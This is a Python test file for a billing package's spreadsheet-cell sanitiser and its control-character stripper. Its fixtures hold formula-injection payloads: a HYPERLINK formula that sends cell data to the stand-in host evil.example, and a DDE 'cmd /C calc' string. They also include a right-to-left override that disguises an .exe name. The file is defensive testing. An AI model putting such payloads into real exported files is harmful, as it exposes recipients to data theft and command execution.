"""Spreadsheet cells that never run and account text without control characters."""

from __future__ import annotations

import csv
import io

import pytest

from dunning.text.cells import clean_text, csv_writer, safe_cell


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ('=HYPERLINK("http://evil.example/?"&B2,"x")', '\'=HYPERLINK("http://evil.example/?"&B2,"x")'),
        ("@SUM(1+1)*cmd|' /C calc'!A0", "'@SUM(1+1)*cmd|' /C calc'!A0"),
        ("+1+1", "'+1+1"),
        ("-2+3", "'-2+3"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("+12125550142", "+12125550142"),
        ("+8613812345678", "+8613812345678"),
        ("-12.50", "-12.50"),
        ("12.50", "12.50"),
        ("a=b", "a=b"),
        ("", ""),
    ],
)
def test_safe_cell(value: str, expected: str) -> None:
    assert safe_cell(value) == expected


def test_csv_writer_neutralises_every_string_cell() -> None:
    buffer = io.StringIO()
    csv_writer(buffer, lineterminator="\n").writerows([["=1", "+12125550142", 3], ["ok", "@x", "-5"]])
    assert buffer.getvalue() == "'=1,+12125550142,3\nok,'@x,-5\n"
    assert list(csv.reader(io.StringIO(buffer.getvalue()))) == [["'=1", "+12125550142", "3"], ["ok", "'@x", "-5"]]


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("【示例金融】\u202egnp.exe\u202c 请还款", "【示例金融】gnp.exe 请还款"),
        ("Ann\x00a", "Anna"),
        ("line\u2028two\u2029three\x85four", "linetwothreefour"),
        ("a\u2066b\u2067c\u2068d\u2069e", "abcde"),
        ("\ufeffName", "Name"),
        ("1 Main St\r\nApt 2", "1 Main St Apt 2"),
        ("tab\there", "tab here"),
        ("王小明", "王小明"),
        ("plain text", "plain text"),
    ],
)
def test_clean_text(value: str, expected: str) -> None:
    assert clean_text(value) == expected
